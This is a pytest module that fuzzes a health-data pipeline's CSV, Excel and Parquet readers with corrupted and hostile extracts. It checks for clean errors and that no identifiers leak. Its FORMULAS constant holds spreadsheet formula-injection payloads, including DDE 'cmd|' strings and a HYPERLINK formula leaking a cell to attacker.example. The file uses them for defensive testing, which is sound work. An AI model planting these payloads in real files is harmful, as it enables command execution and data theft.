"""Hostile and malformed extracts, for every reader (CSV, Excel, Parquet).

Every case must end in a successful run or a clear error: exit 2 with a
message that names the file, never a traceback or exit 1, never a partial
publication, and never a value from the extract in what is printed. The
extracts are seeded with known NHS Numbers, postcodes and dates of birth,
and with formula-injection strings, and none may appear in any message.

Two layers:

- *reading*: property-based tests (hypothesis, derandomized) build random
  and mutated extracts (cell values, headers, encodings, truncation, byte
  flips, inserted bytes) and run the reading, checking and de-identifying
  step exactly as ``runner.run_one`` does, on one DuckDB connection with the
  reference lookups loaded once (so hundreds of cases take seconds).
- *whole runs*: named cases, and in the slow tests some random ones, go
  through ``outcomes run`` end to end against an existing publication,
  which must afterwards be byte-for-byte unchanged (on error) or a complete
  new release (on success) that holds none of the planted strings.

Regression tests for the bugs these found are at the end.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import itertools
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, event, given, seed, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from pipelines.cli import main
from pipelines.framework import registry, runner, staging
from pipelines.framework.codelists import load_code_list
from pipelines.framework.errors import OutcomesError
from pipelines.framework.extracts import open_extract
from pipelines.framework.geography import load_lookups

from ._support import (
    NHS_NUMBERS,
    State,
    check_publication_opens,
    identifier_strings,
    make_rows,
    write_exact_policy,
)
from ..pipelines.extract_builder import AE_COLUMNS, Places

pytestmark = pytest.mark.pipeline

HUGE = "A" * (2 * 1024 * 1024)  # a 2 MB field
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
)
HOSTILE_VALUES = FORMULAS + (
    "", " ", '"', '""', "'", ",", ";", "\n", "\r\n", "a\nb", 'x"y', '"quoted, with comma"', "\x00", "a\x00b",
    "\ufeff", "é", "\u202e", "\U0001f4a5", "9" * 400, "-1", "1e308", "NaN", "NULL", "null", "N/A",
    "1901-05-10", "0001-01-01", "-0001-01-01", "9999-12-31T23:59:59", "2023-02-30", "2023-05-10T25:61:00",
    "2023-05-10 10:00:00+05:00", "E01006112", "E0100611", "W01000001", "X", "9", "1", "2", HUGE,
)
SAFE_NAMES = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)


def forbidden(places: Places) -> list[str]:
    """Strings that must never appear in a message or the publication."""
    return [*identifier_strings(places), "cmd|", "attacker.example", HUGE[:64]]


# ---- the reading step, as runner.run_one does it --------------------------

class Stager:
    def __init__(self, pack):
        self.spec = registry.discover()["alcohol_ae"]
        self.con = duckdb.connect()
        self.con.execute("SET enable_progress_bar = false")
        load_lookups(self.con, pack)
        staging.register_helpers(self.con, b"reliability-tests-key-0123456789")
        self.code_lists = {n: load_code_list(p) for n, p in self.spec.code_lists.items()}
        self.floor = staging.earliest_event_date()

    def outcome(self, path: Path) -> tuple[str, str]:
        """("ok", summary) or ("error", message); anything else propagates."""
        for t in ("_csv_reject_errors", "_csv_reject_scans", "staged"):
            self.con.execute(f"DROP TABLE IF EXISTS {t}")
        try:
            opened = open_extract(self.con, path, self.spec.schema)
            staged = staging.stage(self.con, self.spec, opened, self.code_lists)
            runner._persons_not_countable(self.con, self.spec)
            first, last, _lo, _hi = staging.coverage(self.con, self.spec)
            if first is None:
                return "error", f"{path}: no usable rows with a location in the reference area; nothing to publish"
            staging.extract_date(self.con)
        except OutcomesError as exc:
            return "error", str(exc)
        # what the cube builder gets: real dates, within the plausible window
        assert isinstance(first, dt.date) and isinstance(last, dt.date), (first, last)
        assert self.floor <= first <= last <= dt.date.today(), (first, last)
        return "ok", f"{staged.rows_read} rows, rejected {staged.rejected}"


@pytest.fixture(scope="module")
def places(reference_pack) -> Places:
    return Places.from_pack(reference_pack)


@pytest.fixture(scope="module")
def stager(reference_pack) -> Stager:
    s = Stager(reference_pack)
    yield s
    s.con.close()


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile")


_names = itertools.count()


def new_path(workdir: Path, suffix: str) -> Path:
    return workdir / f"extract{next(_names):05d}{suffix}"


def assert_clear(kind: str, detail: str, path: Path, bad: list[str]) -> None:
    if kind == "error":
        assert str(path) in detail, detail[:500]
    leaked = [b for b in bad if b in detail]
    assert not leaked, f"message quotes extract values {leaked}: {detail[:500]}"


# ---- building extracts -----------------------------------------------------

def base_rows(places: Places, n: int = 24) -> list[dict]:
    return make_rows(places, n, months=(3, 4, 5))


values = st.one_of(st.sampled_from(HOSTILE_VALUES), SAFE_NAMES)


@st.composite
def edited_rows(draw, base: list[dict], value_strategy=values) -> list[dict]:
    rows = [dict(r) for r in base]
    for _ in range(draw(st.integers(0, 6))):
        i = draw(st.integers(0, len(rows) - 1))
        rows[i][draw(st.sampled_from(AE_COLUMNS))] = draw(value_strategy)
    for _ in range(draw(st.integers(0, 2))):  # wholly random rows
        rows.append({c: draw(value_strategy) for c in AE_COLUMNS})
    if draw(st.booleans()):
        rows = rows[: draw(st.integers(0, len(rows)))]
    return rows


@st.composite
def headers(draw) -> list[tuple[str, str | None]]:
    """(header name, column whose values go under it, or None for random values)."""
    cols = [(c, c) for c in AE_COLUMNS]
    op = draw(st.sampled_from(["same", "same", "shuffle", "drop", "extra", "duplicate", "case", "rename", "blank"]))
    if op == "shuffle":
        cols = draw(st.permutations(cols))
    elif op == "drop":
        cols.pop(draw(st.integers(0, len(cols) - 1)))
    elif op == "extra":
        cols.insert(draw(st.integers(0, len(cols))), (draw(st.sampled_from([*FORMULAS, "9434765919", "extra"])), None))
    elif op == "duplicate":
        c = draw(st.sampled_from(AE_COLUMNS))
        cols.insert(draw(st.integers(0, len(cols))), (c, None))
    elif op == "case":
        cols = [(f" {n.upper()} ", src) for n, src in cols]
    elif op == "rename":
        i = draw(st.integers(0, len(cols) - 1))
        cols[i] = (draw(SAFE_NAMES), cols[i][1])
    elif op == "blank":
        cols.append(("", None))
    return cols


def table_of(rows: list[dict], cols: list[tuple[str, str | None]], filler: str = "") -> tuple[list[str], list[list]]:
    names = [n for n, _ in cols]
    data = [[(r.get(src, "") if src else filler) for _n, src in cols] for r in rows]
    return names, data


def mutate(data: bytes, ops: list[tuple]) -> bytes:
    for op in ops:
        if not data:
            break
        at = min(int(op[1] * len(data)), len(data) - 1)
        if op[0] == "truncate":
            data = data[:at]
        elif op[0] == "flip":
            data = data[:at] + bytes([data[at] ^ op[2]]) + data[at + 1:]
        elif op[0] == "insert":
            data = data[:at] + op[2] + data[at:]
        elif op[0] == "delete":
            data = data[:at] + data[at + op[2]:]
    return data


fraction = st.floats(0, 1, allow_nan=False)
mutations = st.lists(st.one_of(
    st.tuples(st.just("truncate"), fraction),
    st.tuples(st.just("flip"), fraction, st.integers(1, 255)),
    st.tuples(st.just("insert"), fraction, st.one_of(
        st.sampled_from([b"\x00", b'"', b"\n", b"\r", b",", b"\xff\xfe", b"\xc3", b"\xe2\x80", b'"\n"', b"\x1a"]),
        st.binary(max_size=8))),
    st.tuples(st.just("delete"), fraction, st.integers(1, 50)),
), max_size=3)


@st.composite
def csv_bytes(draw, base: list[dict]) -> bytes:
    rows = draw(edited_rows(base))
    names, data = table_of(rows, draw(headers()), filler=draw(values))
    buf = io.StringIO()
    writer = csv.writer(buf, quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
                        lineterminator=draw(st.sampled_from(["\n", "\r\n"])))
    writer.writerow(names)
    writer.writerows(data)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le",
                                     "utf-16-be"]))
    raw = buf.getvalue().encode(encoding, errors="replace")
    return mutate(raw, draw(mutations))


excel_values = st.one_of(
    st.sampled_from([v for v in HOSTILE_VALUES if not ILLEGAL_CHARACTERS_RE.search(v)]),
    SAFE_NAMES.map(lambda s: ILLEGAL_CHARACTERS_RE.sub("?", s)),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 1, 1)),
    st.dates(min_value=dt.date(1900, 3, 1)),
    st.booleans(),
    st.none(),
)


def write_xlsx(path: Path, names: list, data: list[list], formulas_as_text: bool = False) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(names)
    for row in data:
        sheet.append(row)
    if formulas_as_text:  # a formula-looking *string*, as a careful export would store it
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    book.save(path)
    return path


@st.composite
def xlsx_file(draw, base: list[dict], path: Path) -> Path:
    rows = draw(edited_rows(base, excel_values))
    names, data = table_of(rows, draw(headers()))
    names = [ILLEGAL_CHARACTERS_RE.sub("?", n) for n in names]
    write_xlsx(path, names, data, formulas_as_text=draw(st.booleans()))
    if draw(st.integers(0, 9)) == 0:  # now and then, damage the file itself
        path.write_bytes(mutate(path.read_bytes(), draw(mutations)))
    return path


PARQUET_TYPES = ["string", "large_string", "binary", "int64", "float64", "bool", "date32", "timestamp",
                 "timestamp_tz", "null", "list", "dictionary", "struct"]


def _parse(kind: str, v):
    try:
        if kind == "int64":
            return int(v)
        if kind == "float64":
            return float(v)
        if kind == "date32":
            return dt.date.fromisoformat(v[:10])
        if kind in ("timestamp", "timestamp_tz"):
            t = dt.datetime.fromisoformat(v)
            return t.replace(tzinfo=dt.timezone.utc) if kind == "timestamp_tz" and t.tzinfo is None else t
    except (ValueError, TypeError, OverflowError):
        return None
    return v


def arrow_column(kind: str, vals: list) -> pa.Array:
    vals = [v if v != "" else None for v in vals]
    if kind in ("string", "large_string"):
        return pa.array(vals, pa.string() if kind == "string" else pa.large_string())
    if kind == "binary":
        return pa.array([v.encode("utf-8", "replace") if v is not None else None for v in vals], pa.binary())
    if kind == "bool":
        return pa.array([bool(v) if v is not None else None for v in vals], pa.bool_())
    if kind == "null":
        return pa.nulls(len(vals))
    if kind == "list":
        return pa.array([[v] if v is not None else None for v in vals], pa.list_(pa.string()))
    if kind == "dictionary":
        return pa.array(vals, pa.string()).dictionary_encode()
    if kind == "struct":
        return pa.array([{"v": v} for v in vals], pa.struct([("v", pa.string())]))
    parsed = [_parse(kind, v) if v is not None else None for v in vals]
    typ = {"int64": pa.int64(), "float64": pa.float64(), "date32": pa.date32(), "timestamp": pa.timestamp("us"),
           "timestamp_tz": pa.timestamp("us", tz="UTC")}[kind]
    if kind in ("int64",):
        parsed = [p if p is None or -(2**63) <= p < 2**63 else None for p in parsed]
    if kind == "timestamp":
        parsed = [p.replace(tzinfo=None) if p is not None else None for p in parsed]
    if kind == "timestamp_tz":
        parsed = [p if p is None or p.tzinfo else p.replace(tzinfo=dt.timezone.utc) for p in parsed]
    return pa.array(parsed, typ)


@st.composite
def parquet_file(draw, base: list[dict], path: Path) -> Path:
    rows = draw(edited_rows(base))
    cols = draw(headers())
    names, data = table_of(rows, cols, filler="x")
    arrays = []
    for j, name in enumerate(names):
        kind = draw(st.sampled_from(["string"] * 30 + PARQUET_TYPES))
        arrays.append(arrow_column(kind, [row[j] for row in data]))
    pq.write_table(pa.Table.from_arrays(arrays, names=names), path)
    if draw(st.integers(0, 7)) == 0:
        path.write_bytes(mutate(path.read_bytes(), draw(mutations)))
    return path


# ---- reading: property-based ------------------------------------------------

QUICK = settings(max_examples=12, deadline=None, derandomize=True, database=None,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
THOROUGH = settings(max_examples=150, deadline=None, derandomize=False, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def _csv_case(stager, places, workdir, data):
    path = new_path(workdir, ".csv")
    path.write_bytes(data.draw(csv_bytes(base_rows(places))))
    kind, detail = stager.outcome(path)
    event(f"outcome: {kind}")  # shown by --hypothesis-show-statistics
    assert_clear(kind, detail, path, forbidden(places))


def _xlsx_case(stager, places, workdir, data):
    path = data.draw(xlsx_file(base_rows(places), new_path(workdir, ".xlsx")))
    kind, detail = stager.outcome(path)
    event(f"outcome: {kind}")
    assert_clear(kind, detail, path, forbidden(places))


def _parquet_case(stager, places, workdir, data):
    path = data.draw(parquet_file(base_rows(places), new_path(workdir, ".parquet")))
    kind, detail = stager.outcome(path)
    event(f"outcome: {kind}")
    assert_clear(kind, detail, path, forbidden(places))


@QUICK
@given(data=st.data())
def test_csv_reader_random_and_mutated(stager, places, workdir, data):
    _csv_case(stager, places, workdir, data)


@QUICK
@given(data=st.data())
def test_excel_reader_random_and_mutated(stager, places, workdir, data):
    _xlsx_case(stager, places, workdir, data)


@QUICK
@given(data=st.data())
def test_parquet_reader_random_and_mutated(stager, places, workdir, data):
    _parquet_case(stager, places, workdir, data)


@pytest.mark.slow
@THOROUGH
@seed(20261126)
@given(data=st.data())
def test_csv_reader_thoroughly(stager, places, workdir, data):
    _csv_case(stager, places, workdir, data)


@pytest.mark.slow
@THOROUGH
@seed(20261126)
@given(data=st.data())
def test_excel_reader_thoroughly(stager, places, workdir, data):
    _xlsx_case(stager, places, workdir, data)


@pytest.mark.slow
@THOROUGH
@seed(20261126)
@given(data=st.data())
def test_parquet_reader_thoroughly(stager, places, workdir, data):
    _parquet_case(stager, places, workdir, data)


# ---- named cases: each reader, each kind of damage --------------------------

def _csv_text(rows, names=AE_COLUMNS, **kw) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n", **kw)
    w.writerow(names)
    for r in rows:
        w.writerow([r.get(c, "") for c in names])
    return buf.getvalue()


def _edit(rows, i, **kw):
    rows = [dict(r) for r in rows]
    rows[i].update(kw)
    return rows


def named_cases(places: Places) -> dict[str, tuple[str, object, str]]:
    """name -> (suffix, bytes or builder(path), expected: 'ok', 'error' or 'either')."""
    rows = base_rows(places)
    good = _csv_text(rows)
    raw = good.encode()
    late = (good + _csv_text(base_rows(places, 900)[24:], names=AE_COLUMNS).split("\n", 1)[1]).encode()
    formula_rows = [dict(r, chief_complaint_snomed=FORMULAS[i % len(FORMULAS)],
                         discharge_destination_snomed="@SUM(1+1)*cmd|' /C calc'!A0",
                         attendance_id=("=" if i % 2 else "-") + r["attendance_id"]) for i, r in enumerate(rows)]
    cols = {c: [r[c] or None for r in rows] for c in AE_COLUMNS}

    def parquet(table_cols, names=None):
        def build(path):
            arrays = [pa.array(v) if not isinstance(v, pa.Array) else v for v in table_cols.values()]
            pq.write_table(pa.Table.from_arrays(arrays, names=names or list(table_cols)), path)
        return build

    def xlsx(names, data, **kw):
        return lambda path: write_xlsx(path, names, data, **kw)

    def xlsx_raw_sheet_edit(old: bytes, new: bytes):
        def build(path):
            write_xlsx(path, AE_COLUMNS, [[r[c] for c in AE_COLUMNS] for r in rows])
            src = zipfile.ZipFile(path).infolist()
            blobs = {i.filename: zipfile.ZipFile(path).read(i.filename) for i in src}
            sheet = "xl/worksheets/sheet1.xml"
            blobs[sheet] = blobs[sheet].replace(old, new, 1)
            with zipfile.ZipFile(path, "w") as z:
                for name, blob in blobs.items():
                    z.writestr(name, blob)
        return build

    xl_data = [[r[c] for c in AE_COLUMNS] for r in rows]
    return {
        # CSV
        "csv good": (".csv", raw, "ok"),
        "csv truncated mid-row": (".csv", raw[: len(raw) * 2 // 3], "either"),
        "csv truncated in the header": (".csv", raw[:40], "error"),
        "csv byte flips": (".csv", mutate(raw, [("flip", f / 10, 0x5A) for f in range(1, 10)]), "either"),
        "csv latin-1": (".csv", _csv_text(_edit(rows, 2, chief_complaint_snomed="café")).encode("latin-1"), "ok"),
        "csv utf-16 with BOM": (".csv", good.encode("utf-16"), "ok"),
        "csv utf-16 without BOM": (".csv", good.encode("utf-16-le"), "error"),
        "csv utf-16 big-endian": (".csv", codecs.BOM_UTF16_BE + good.encode("utf-16-be"), "error"),
        "csv invalid utf-8": (".csv", raw.replace(b"T000005", b"T\xff\xfe\xc3\x28"), "ok"),
        "csv 2 MB field": (".csv", _csv_text(_edit(rows, 3, chief_complaint_snomed=HUGE)).encode(), "error"),
        "csv 2 MB field late in a big file": (".csv", late + _csv_text(
            [dict(rows[0], attendance_id="LATE1", chief_complaint_snomed=HUGE)]).split("\n", 1)[1].encode(), "either"),
        "csv formula injection": (".csv", _csv_text(formula_rows).encode(), "ok"),
        "csv NUL in a field": (".csv", _csv_text(_edit(rows, 1, chief_complaint_snomed="a\x00b")).encode(), "error"),
        "csv NUL late in a big file": (".csv", late.replace(b"T000800,", b"T00\x00800,"), "either"),
        "csv extra columns": (".csv", _csv_text(rows, [*AE_COLUMNS, "extra", "9434765919"]).encode(), "ok"),
        "csv missing column": (".csv", _csv_text(rows, [c for c in AE_COLUMNS if c != "sex"]).encode(), "error"),
        "csv duplicated column": (".csv", _csv_text(rows, [*AE_COLUMNS, "nhs_number"]).encode(), "ok"),
        "csv quotes and newlines in fields": (".csv", _csv_text(
            [dict(r, chief_complaint_snomed='he said "no",\nthen left') for r in rows], quoting=csv.QUOTE_ALL).encode(), "ok"),
        "csv unterminated quote": (".csv", raw.replace(b"T000007,", b'"T000007,'), "either"),
        "csv random bytes": (".csv", bytes(range(256)) * 20, "error"),
        "csv mistyped years": (".csv", _csv_text(_edit(_edit(rows, 4, arrival_datetime="0023-05-10T10:00:00"), 5,
                                                  arrival_datetime="1901-05-10T10:00:00",
                                                  date_of_birth="1900-01-01")).encode(), "either"),
        # Excel (written by openpyxl)
        "xlsx good": (".xlsx", xlsx(AE_COLUMNS, xl_data), "ok"),
        "xlsx formula injection as formulas": (".xlsx", xlsx(AE_COLUMNS, [
            [FORMULAS[0] if c == "chief_complaint_snomed" else r[c] for c in AE_COLUMNS] for r in rows]), "ok"),
        "xlsx formula injection as text": (".xlsx", xlsx(AE_COLUMNS, [
            [FORMULAS[0] if c == "chief_complaint_snomed" else r[c] for c in AE_COLUMNS] for r in rows],
            formulas_as_text=True), "ok"),
        "xlsx 2 MB cell": (".xlsx", xlsx(AE_COLUMNS, [
            [HUGE if (c == "chief_complaint_snomed" and i == 0) else r[c] for c in AE_COLUMNS]
            for i, r in enumerate(rows)]), "ok"),
        "xlsx extra and duplicated columns": (".xlsx", xlsx([*AE_COLUMNS, "sex", "=cmd|' /C calc'!A0"],
                                                            [[*row, "9", "x"] for row in xl_data]), "ok"),
        "xlsx missing column": (".xlsx", xlsx(AE_COLUMNS[:-2], [row[:-2] for row in xl_data]), "error"),
        "xlsx ragged rows": (".xlsx", xlsx(AE_COLUMNS, [row[: (i % 11) + 1] for i, row in enumerate(xl_data)]), "error"),
        "xlsx header only": (".xlsx", xlsx(AE_COLUMNS, []), "error"),
        "xlsx truncated": (".xlsx", lambda p: p.write_bytes(
            mutate(write_xlsx(p, AE_COLUMNS, xl_data).read_bytes(), [("truncate", 0.5)])), "error"),
        "xlsx byte flips": (".xlsx", lambda p: p.write_bytes(mutate(write_xlsx(p, AE_COLUMNS, xl_data).read_bytes(),
                                                                     [("flip", f / 7, 0x33) for f in range(1, 7)])),
                            "error"),
        "xlsx NUL character reference in a cell": (".xlsx", xlsx_raw_sheet_edit(b"<v>", b"<v>&#0;"), "either"),
        "xlsx that is really a CSV": (".xlsx", raw, "error"),
        # Parquet (written by pyarrow)
        "parquet good": (".parquet", parquet(cols), "ok"),
        "parquet truncated": (".parquet", lambda p: (parquet(cols)(p), p.write_bytes(p.read_bytes()[:-200])), "error"),
        "parquet byte flips": (".parquet", lambda p: (parquet(cols)(p), p.write_bytes(
            mutate(p.read_bytes(), [("flip", f / 9, 0x5A) for f in range(1, 9)]))), "either"),
        "parquet extra and duplicated columns": (".parquet", parquet(
            {**cols, "sex2": cols["sex"], "9434765919": cols["nhs_number"]},
            names=[*AE_COLUMNS, "sex", "extra"]), "ok"),
        "parquet missing column": (".parquet", parquet({c: v for c, v in cols.items() if c != "arrival_datetime"}),
                                   "error"),
        "parquet NUL and huge strings": (".parquet", parquet({**cols, "chief_complaint_snomed": pa.array(
            [HUGE] + ["a\x00b"] * (len(rows) - 1))}), "ok"),
        "parquet formula injection": (".parquet", parquet({**cols, "chief_complaint_snomed": pa.array(
            [FORMULAS[i % len(FORMULAS)] for i in range(len(rows))])}), "ok"),
        "parquet typed columns": (".parquet", parquet({**cols, "nhs_number": pa.array([int(v) for v in cols["nhs_number"]]),
                                                      "date_of_birth": pa.array([dt.date(1985, 6, 15)] * len(rows)),
                                                      "arrival_datetime": pa.array([dt.datetime(2023, 5, 10, 12)] * len(rows))}),
                                  "ok"),
        "parquet nested columns": (".parquet", parquet({**cols, "sex": pa.array([[1, 2]] * len(rows))}), "error"),
        "parquet zero rows": (".parquet", parquet({c: pa.array([], pa.string()) for c in AE_COLUMNS}), "error"),
        "parquet that is really a CSV": (".parquet", raw, "error"),
    }


def _materialise(workdir: Path, name: str, suffix: str, content) -> Path:
    path = workdir / (name.replace(" ", "_").replace("/", "_") + suffix)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        content(path)
    return path


def test_named_hostile_extracts_read_cleanly(stager, places, workdir):
    """Every named case, read and checked: the expected outcome, clear and quiet."""
    outcomes = {}
    for name, (suffix, content, expected) in named_cases(places).items():
        path = _materialise(workdir, name, suffix, content)
        kind, detail = stager.outcome(path)
        assert_clear(kind, detail, path, forbidden(places))
        outcomes[name] = (kind, detail)
        if expected != "either":
            assert kind == expected, f"{name}: {kind}: {detail[:300]}"
    assert len(outcomes) >= 40


# ---- whole runs --------------------------------------------------------------

@pytest.fixture(scope="module")
def publication(tmp_path_factory, reference_pack, places, fast_geography):
    """A good publication, made before any hostile extract is run against it."""
    root = tmp_path_factory.mktemp("hostile_pub")
    policy = write_exact_policy(root)
    good = root / "good.csv"
    good.write_text(_csv_text(base_rows(places)))
    db = root / "pub" / "outcomes.duckdb"
    assert main(["run", "alcohol_ae", "--input", str(good), "--db", str(db), "--demo", "--policy", str(policy)]) == 0
    return {"db": db, "policy": policy}


def scan_publication(db: Path, bad: list[str]) -> list[str]:
    con = duckdb.connect(str(db), read_only=True)
    found = []
    try:
        for table, column in con.execute(
                "SELECT table_name, column_name FROM information_schema.columns "
                "WHERE data_type LIKE 'VARCHAR%'").fetchall():
            for (value,) in con.execute(f'SELECT DISTINCT CAST("{column}" AS VARCHAR) FROM "{table}"').fetchall():
                if value and any(b in value for b in bad):
                    found.append(f"{table}.{column}")
    finally:
        con.close()
    return found


def whole_run(publication, path: Path, bad: list[str], capsys) -> int:
    db = publication["db"]
    before = State.of(db)
    capsys.readouterr()
    status = main(["run", "alcohol_ae", "--input", str(path), "--db", str(db), "--demo",
                   "--policy", str(publication["policy"])])
    captured = capsys.readouterr()
    printed = captured.out + captured.err
    assert status in (0, 2), f"{path.name}: exit {status}: {printed[-1500:]}"
    assert "internal error" not in printed and "Traceback" not in printed
    leaked = [b for b in bad if b in printed]
    assert not leaked, f"{path.name}: printed extract values {leaked}"
    after = State.of(db)
    if status == 2:
        assert str(path) in " ".join(captured.err.split()).replace("\n", "")
        assert after == before, f"{path.name}: the publication changed on a failed run"
    else:
        for name, digest in before.releases.items():
            assert after.releases.get(name, digest) == digest
        assert after.served != before.served
        facts = check_publication_opens(db)
        assert facts["previous"] == Path(before.served).stem
        assert scan_publication(db, bad) == []
    return status


QUICK_RUNS = ("csv formula injection", "xlsx formula injection as formulas", "parquet extra and duplicated columns")


@pytest.mark.parametrize("name", QUICK_RUNS)
def test_hostile_extract_whole_run(name, publication, places, workdir, capsys):
    suffix, content, expected = named_cases(places)[name]
    path = _materialise(workdir, "run_" + name, suffix, content)
    status = whole_run(publication, path, forbidden(places), capsys)
    if expected != "either":
        assert status == (0 if expected == "ok" else 2)


@pytest.mark.slow
def test_every_named_hostile_extract_whole_run(publication, places, workdir, capsys):
    for name, (suffix, content, expected) in named_cases(places).items():
        if name in QUICK_RUNS:
            continue
        path = _materialise(workdir, "run_" + name, suffix, content)
        status = whole_run(publication, path, forbidden(places), capsys)
        if expected != "either":
            assert status == (0 if expected == "ok" else 2), name


@pytest.mark.slow
@settings(max_examples=8, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                 HealthCheck.function_scoped_fixture])
@given(data=st.data(), reader=st.sampled_from(["csv", "xlsx", "parquet"]))
def test_random_hostile_extract_whole_run(publication, places, workdir, capsys, data, reader):
    base = base_rows(places)
    if reader == "csv":
        path = new_path(workdir, ".csv")
        path.write_bytes(data.draw(csv_bytes(base)))
    elif reader == "xlsx":
        path = data.draw(xlsx_file(base, new_path(workdir, ".xlsx")))
    else:
        path = data.draw(parquet_file(base, new_path(workdir, ".parquet")))
    whole_run(publication, path, forbidden(places), capsys)


# ---- regressions for bugs found here -----------------------------------------

def test_regression_mistyped_year_is_rejected_not_a_century_of_cubes(publication, places, workdir, capsys):
    """Bug: one row dated 1901 (or 0023) made the cubes span every month since
    then: over 5 minutes and 2-4 GB for a 40-row extract; a year before 1 AD
    crashed with exit 1. Now such rows are rejected and counted."""
    rows = _edit(_edit(base_rows(places, 60), 4, arrival_datetime="1901-05-10T10:00:00", date_of_birth="1900-01-01"),
                 5, arrival_datetime="-0001-05-10T10:00:00", date_of_birth="-0002-01-01")
    path = workdir / "mistyped_years.csv"
    path.write_text(_csv_text(rows))
    assert whole_run(publication, path, forbidden(places), capsys) == 0
    con = duckdb.connect(str(publication["db"]), read_only=True)
    try:
        rejected = con.execute("SELECT rows_rejected FROM runs ORDER BY finished_at DESC LIMIT 1").fetchone()[0]
        months = con.execute("SELECT count(DISTINCT period_start) FROM alcohol_ae__all_attendances__la_month").fetchone()[0]
    finally:
        con.close()
    assert f'"{staging.early_event_reason(staging.earliest_event_date())}": 2' in rejected
    assert months == 3


def test_regression_csv_encodings_and_long_lines(stager, places, workdir):
    """Bugs: UTF-16 with a byte-order mark (Excel's "Unicode text") was read
    as Latin-1 and refused; UTF-16 without one was called "binary"; a line
    over 1 MB and a file cut short gave only "could not be read as a CSV
    file". Now: read, or a message that says what is wrong."""
    good = _csv_text(base_rows(places))
    cases = {
        "u16.csv": (good.encode("utf-16"), "ok", ""),
        "u16le.csv": (good.encode("utf-16-le"), "error", "looks like UTF-16 text without a byte-order mark"),
        "u16be.csv": (codecs.BOM_UTF16_BE + good.encode("utf-16-be"), "error", "is UTF-16 big-endian text"),
        "long.csv": (_csv_text(_edit(base_rows(places), 0, chief_complaint_snomed=HUGE)).encode(), "error",
                     "a line is longer than 1,048,576 bytes"),
        "cut.csv": (good.encode()[: len(good) * 2 // 3], "error", "malformed CSV row"),
    }
    for name, (content, expected, words) in cases.items():
        path = workdir / name
        path.write_bytes(content)
        kind, detail = stager.outcome(path)
        assert kind == expected and words in " ".join(detail.split()), (name, detail)
    assert NHS_NUMBERS[0] not in detail
